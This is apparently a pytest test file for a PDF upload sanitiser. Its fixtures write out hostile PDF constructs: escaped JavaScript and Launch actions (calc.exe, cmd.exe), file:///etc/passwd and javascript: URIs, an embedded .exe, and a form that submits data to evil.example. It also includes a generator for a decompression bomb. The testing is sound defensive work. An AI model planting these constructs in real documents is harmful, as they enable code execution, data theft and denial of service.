"""PDFs: parsed by qpdf in a limited child process, every object walked (object streams included,
names decoded); active content, encryption, damage and parser bombs refused; plain documents kept
byte for byte."""
import io
import time
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from backend.services.media import Refused, check_pdf, sanitise
from tests.media.support import minimal_pdf, text_pdf

OBJECT_STREAMS = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


def refusal(data):
    with pytest.raises(Refused) as info:
        check_pdf(data)
    return info.value


def link(pdf, action):
    """A link annotation on the first page that runs `action` when clicked."""
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720],
                                         Border=[0, 0, 0], A=action))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([annot]))


# ---------------------------------------------------------------- what is kept


def test_plain_text_pdf_is_stored_byte_for_byte():
    data = text_pdf()
    out = sanitise(data, purpose="document")
    assert out.content_type == "application/pdf" and out.data == data and out.thumbnail is None


def test_ordinary_navigation_is_kept():
    """What office suites write: an outline, open-at-page destinations, links within the document,
    links to web pages and e-mail addresses, page-turning named actions."""
    def navigation(pdf):
        first = pdf.pages[0].obj
        pdf.Root.OpenAction = Array([first, Name.Fit])  # a destination, not an action
        link(pdf, Dictionary(S=Name.URI, URI=String("https://example.com/quote")))
        more = [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620], A=a))
                for a in (Dictionary(S=Name.GoTo, D=Array([first, Name.Fit])),
                          Dictionary(S=Name.URI, URI=String("mailto:wuye@example.com")),
                          Dictionary(S=Name.Named, N=Name.NextPage))]
        first.Annots.extend(more)
        outline = pdf.make_indirect(Dictionary(Title=String("报价"), Dest=Array([first, Name.Fit])))
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1))
        outline.Parent = pdf.Root.Outlines

    for save in ({}, OBJECT_STREAMS):
        data = text_pdf(navigation, **save)
        assert check_pdf(data).data == data


def test_the_words_javascript_in_the_text_are_not_active_content():
    """The old filter refused the bytes `/JavaScript` anywhere; the parser looks at what they are."""
    def words(pdf):
        pdf.pages[0].obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 700 Td (/JavaScript /Launch /JS) Tj ET")
        pdf.Root.Info = pdf.make_indirect(Dictionary(Title=String("/JavaScript /EmbeddedFile")))

    data = text_pdf(words)
    assert check_pdf(data).data == data


# ---------------------------------------------------------------- active content


@pytest.mark.parametrize("catalog,page", [
    # name escapes: /J#61vaScript is /JavaScript, /L#61unch is /Launch to every PDF reader
    (b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> ", b""),
    (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /L#61unch /F (calc.exe) >> >>] "),
    (b"/OpenAction 4 0 R ", b""),
    (b"", b"/AA << /O << /S /Named /N /NextPage >> >> "),  # anything run on its own when a page opens
    (b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >> ", b""),
    (b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>] "),
    (b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Named /N /Print >> >>] "),
    (b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///etc/passwd) >> >>] "),
    (b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert(1)) >> >>] "),
    (b"/OpenAction << /S /URI /URI (https://example.com/track) >> ", b""),  # a web page opened on its own
    (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (x.exe) >> >> ", b""),
], ids=["escaped-javascript", "escaped-launch", "indirect-openaction", "page-aa", "names-javascript", "gotor",
        "named-print", "file-uri", "javascript-uri", "openaction-uri", "next-chain"])
def test_active_content_in_raw_pdfs_refused(catalog, page):
    js = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    data = minimal_pdf(extra=page, catalog=catalog, objects=[js] if b"4 0 R" in catalog else [])
    error = refusal(data)
    assert error.code == "document_active_content", (error.code, error.details)
    assert error.status == 422 and error.message


def _annotation_javascript(pdf):
    link(pdf, Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://evil.example')")))


def _openaction_launch(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="invoice.exe")


def _file_attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"hello", filename="a.txt")
    annot = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 10, 10], FS=spec.obj)
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annot)]))


def _xfa(pdf):
    xdp = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array(), XFA=Array([String("xdp"), xdp])))


def _submit_form(pdf):
    widget = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("send"), Rect=[72, 600, 200, 630],
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect")))))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([widget]))
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([widget])))


def _import_data(pdf):
    link(pdf, Dictionary(S=Name.ImportData, F=String("data.fdf")))


def _rich_media(pdf):
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 10, 10],
                                         RichMediaContent=Dictionary()))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([annot]))


def _field_keystroke_script(pdf):
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("amount"), Rect=[72, 600, 200, 630],
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.rc = true")))))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([field]))
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([field])))


HOSTILE = {"annotation-javascript": _annotation_javascript, "openaction-launch": _openaction_launch,
           "embedded-file": _embedded_file, "file-attachment-annotation": _file_attachment_annotation,
           "xfa": _xfa, "acroform-submitform": _submit_form, "importdata": _import_data,
           "richmedia": _rich_media, "field-keystroke-javascript": _field_keystroke_script}


@pytest.mark.parametrize("save", [{}, OBJECT_STREAMS], ids=["plain", "object-streams"])
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_active_content_refused_also_inside_compressed_object_streams(name, save):
    data = text_pdf(HOSTILE[name], **save)
    if save:
        # the point of this variant: no name of the offending dictionary is visible in the raw bytes
        assert b"/ObjStm" in data and b"/JavaScript" not in data and b"/SubmitForm" not in data
    error = refusal(data)
    assert error.code == "document_active_content", (error.code, error.details)


# ---------------------------------------------------------------- damaged, encrypted, bombs


@pytest.mark.parametrize("owner,user", [("owner-secret", ""), ("owner-secret", "open-me")])
def test_encrypted_pdfs_refused(owner, user):
    def encrypted():
        pdf = pikepdf.open(io.BytesIO(text_pdf()))
        buf = io.BytesIO()
        pdf.save(buf, encryption=pikepdf.Encryption(owner=owner, user=user))
        return buf.getvalue()

    error = refusal(encrypted())
    assert error.code == "document_encrypted" and "加密" in error.message


def test_damaged_pdfs_refused():
    good = minimal_pdf()
    # the xref table points into the middle of an object: a reader would have to guess
    broken_offsets = good.replace(b"0000000015 00000 n", b"0000000021 00000 n")
    assert broken_offsets != good
    assert refusal(broken_offsets).code == "document_damaged"
    assert refusal(good.replace(b"/Pages 2 0 R", b"/Pages 9 0 R")).code == "document_damaged"
    assert refusal(good[:-30]).code == "document_damaged"


def object_stream_bomb(streams=1, megabytes=16):
    """A PDF of a few kilobytes per stream whose object streams inflate to `megabytes` of `0 0 0 …`
    each: qpdf in the worker's own process would need about 1.2 GB for one such stream."""
    parts, offsets = [b"%PDF-1.5\n"], {}

    def obj(number, body):
        offsets[number] = sum(len(p) for p in parts)
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Resources << >> >>")
    compressed = {}
    for i in range(streams):
        stream_number, inner = 4 + 2 * i, 5 + 2 * i
        header = b"%d 0 " % inner
        data = zlib.compress(header + b"[" + b"0 " * (megabytes << 19) + b"]", 9)
        obj(stream_number, b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
            % (len(header), len(data)) + data + b"\nendstream")
        compressed[inner] = stream_number
    size = 4 + 2 * streams
    xref = sum(len(p) for p in parts)
    rows = []
    for n in range(size + 1):
        if n in offsets:
            rows.append(b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00")
        elif n in compressed:
            rows.append(b"\x02" + compressed[n].to_bytes(4, "big") + b"\x00\x00")
        elif n == size:
            rows.append(b"\x01" + xref.to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x00" + b"\x00" * 4 + b"\xff\xff")
    table = b"".join(rows)
    parts.append(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
                 % (size, size + 1, len(table)) + table + b"\nendstream\nendobj\n")
    parts.append(b"startxref\n%d\n%%%%EOF\n" % xref)
    return b"".join(parts)


def _status_kib(field):
    with open("/proc/self/status") as fh:
        return next(int(line.split()[1]) for line in fh if line.startswith(field + ":"))


def test_object_stream_bomb_costs_the_child_its_life_not_the_worker_its_memory():
    bomb = object_stream_bomb(streams=3)
    assert len(bomb) < 100_000
    with open("/proc/self/clear_refs", "w") as fh:
        fh.write("5")  # reset this process's high-water mark of resident memory
    before = _status_kib("VmRSS")
    started = time.monotonic()
    error = refusal(bomb)
    assert error.code == "document_too_complex", (error.code, error.details)
    assert time.monotonic() - started < 30
    assert _status_kib("VmHWM") - before < 50 * 1024  # this process grew by less than 50 MB
    assert check_pdf(text_pdf()).data  # and the inspector still works


def test_small_limits_refuse_even_a_plain_pdf():
    """The limits are real: a child given 20 MB of address space cannot even start qpdf."""
    with pytest.raises(Refused) as info:
        check_pdf(text_pdf(), memory=20 << 20)
    assert info.value.code == "document_too_complex"
